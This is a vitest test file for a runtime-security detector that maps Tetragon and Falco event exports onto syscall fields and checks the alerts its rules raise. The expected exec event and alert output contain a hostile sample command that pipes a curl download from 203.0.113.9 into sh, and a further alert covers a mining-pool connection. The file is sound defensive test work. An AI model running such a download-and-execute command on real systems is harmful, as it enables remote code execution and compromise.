import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Detector, type FalcoAlert } from '../detector.js';
import { formatIssue, loadRules, type RuleSet } from '../engine.js';
import { inputProfile, loadOptionsFor, type InputKind } from '../inputs.js';
import type { ProcessEvent } from '../fields-syscall.js';
import { jsonDepthExceeds, parseBoundedJson } from './bounded-json.js';
import { BoundedQueue } from './bounded-queue.js';
import type { SourceItem } from './source-item.js';

const fixture = (name: string): string => readFileSync(join(import.meta.dirname, '__fixtures__', name), 'utf8');

function itemsOf(kind: InputKind, text: string): SourceItem[] {
  const decode = inputProfile(kind).decodeLine!;
  return text.split('\n').flatMap((l) => decode(l));
}

function run(kind: InputKind, rulesFile: string, text: string): { ruleSet: RuleSet; alerts: FalcoAlert[]; items: SourceItem[] } {
  const ruleSet = loadRules([{ name: rulesFile, content: fixture(rulesFile) }], loadOptionsFor(kind));
  const detector = new Detector(ruleSet, { hostname: 'test' });
  const alerts: FalcoAlert[] = [];
  const items = itemsOf(kind, text);
  for (const item of items) if (item.kind === 'event') detector.evaluate(item.source, item.event, item.timeNs, (a) => void alerts.push(a));
  return { ruleSet, alerts, items };
}

describe('bounded JSON', () => {
  it('refuses text over the size limit, nesting over the depth limit, and invalid JSON', () => {
    expect(parseBoundedJson('{"a":1}', { maxBytes: 5, maxDepth: 10 })).toEqual({ ok: false, reason: 'too-large' });
    expect(parseBoundedJson('['.repeat(101) + ']'.repeat(101))).toEqual({ ok: false, reason: 'too-deep' });
    expect(parseBoundedJson('{"a":')).toEqual({ ok: false, reason: 'invalid-json' });
    expect(parseBoundedJson('{"a":"[[[[[[[[[[[[","b":[1]}', { maxBytes: 100, maxDepth: 2 })).toEqual({ ok: true, value: { a: '[[[[[[[[[[[[', b: [1] } });
  });

  it('counts depth outside strings only, escapes included', () => {
    expect(jsonDepthExceeds('{"x":"\\"[[[["}', 1)).toBe(false);
    expect(jsonDepthExceeds('[[[]]]', 2)).toBe(true);
  });
});

describe('bounded queue', () => {
  it('refuses and counts items past its capacity, and delivers the rest in order', async () => {
    const q = new BoundedQueue<number>(2);
    expect([q.push(1), q.push(2), q.push(3)]).toEqual([true, true, false]);
    expect(q.dropped).toBe(1);
    q.close();
    const got: number[] = [];
    for await (const n of q) got.push(n);
    expect(got).toEqual([1, 2]);
  });
});

describe('Tetragon export input', () => {
  const text = fixture('tetragon-export.jsonl');

  it('maps exec, kprobe and exit events onto the syscall fields', () => {
    const items = itemsOf('tetragon', text);
    expect(items.map((i) => (i.kind === 'event' ? (i.event as unknown as ProcessEvent).type : `malformed: ${i.reason}`))).toEqual([
      'execve',
      'connect',
      'security_file_permission',
      'procexit',
      'execve',
      'malformed: unsupported Tetragon event (process_tracepoint)',
    ]);
    const exec = (items[0] as { event: unknown }).event as ProcessEvent;
    expect(exec.proc).toMatchObject({ pid: 7701, name: 'sh', exepath: '/bin/sh', args: ['-c', '"curl', 'http://203.0.113.9/x', '|', 'sh"'] });
    expect(exec.ancestors[0]).toMatchObject({ pid: 7700, name: 'bash' });
    expect(exec.container).toEqual({ id: '4f2a9c1b7e3d', name: 'web', image: 'docker.io/library/nginx:1.27', imageDigest: `sha256:${'1'.repeat(64)}` });
    expect(exec.k8s).toEqual({ ns: 'shop', pod: 'web-7d9c' });
    expect(exec.user).toEqual({ uid: 0, loginuid: -1 });
    const host = (items[4] as { event: unknown }).event as ProcessEvent;
    expect(host.container).toEqual({ id: 'host' });
  });

  it('runs rules on it and reports rules that read fields Tetragon does not provide', () => {
    const { ruleSet, alerts } = run('tetragon', 'tetragon-rules.yaml', text);
    expect(ruleSet.ok).toBe(true);
    expect(ruleSet.issues.filter((i) => i.code === 'UNSUPPORTED_FIELD').map(formatIssue)).toEqual([
      "tetragon-rules.yaml:23:3: warning: rule 'Interactive shell': uses field proc.tty, which tetragon does not provide; rule skipped [UNSUPPORTED_FIELD]",
    ]);
    expect(alerts.map((a) => a.rule)).toEqual(['Shell pipes a download in a container', 'Outbound connection to a mining pool port']);
    expect(alerts[0]!.output).toBe(
      '10:00:00.100000000: Critical shell download in web (docker.io/library/nginx) cmd=sh -c "curl http://203.0.113.9/x | sh" parent=bash caps=CAP_CHOWN CAP_NET_RAW CAP_SYS_ADMIN',
    );
    expect(alerts[1]!.output_fields).toMatchObject({ 'fd.name': '10.244.0.6:43768->203.0.113.9:3333', 'k8s.ns.name': 'shop' });
  });
});

describe('Falco JSON alert input', () => {
  const text = fixture('falco-alerts.jsonl');

  it('reads output_fields as the event, keeps the source, and counts what is not an alert', () => {
    const items = itemsOf('falco-json', text);
    expect(items.map((i) => (i.kind === 'event' ? i.source : i.reason))).toEqual(['syscall', 'syscall', 'k8s_audit', 'Falco alert without output_fields', 'invalid-json']);
  });

  it("runs Sekisho's rules of both sources on the fields each alert carried", () => {
    const { ruleSet, alerts } = run('falco-json', 'falco-json-rules.yaml', text);
    expect(ruleSet.ok).toBe(true);
    expect(alerts.map((a) => [a.rule, a.output])).toEqual([
      ['Shell in production', '22:20:05.408091526: Warning shell in prod/web-1 (bash, image docker.io/library/nginx)'],
      ['Exec into production pod', "22:22:00.000000000: Notice alice exec'd into prod"],
    ]);
  });
});

describe('process event input (syscall)', () => {
  it('drops fields of the wrong type instead of passing them to rules', () => {
    const items = itemsOf('syscall', JSON.stringify({ type: 'execve', time: '2026-01-01T00:00:00Z', proc: { name: 'sh', args: 'not-a-list', pid: 'x' }, ancestors: [{ name: 'bash' }, 7] }));
    expect(items).toHaveLength(1);
    const e = (items[0] as { event: unknown }).event as ProcessEvent;
    expect(e.proc).toEqual({ name: 'sh' });
    expect(e.ancestors).toEqual([{ name: 'bash' }]);
  });

  it('refuses lines without a type, a process or a time', () => {
    expect(itemsOf('syscall', '{"proc":{}}\n{"type":"execve","time":"2026-01-01T00:00:00Z"}\n{"type":"execve","proc":{}}').map((i) => (i.kind === 'malformed' ? i.reason : 'event'))).toEqual([
      'process event without type',
      'process event without proc',
      'process event without a valid time',
    ]);
  });
});
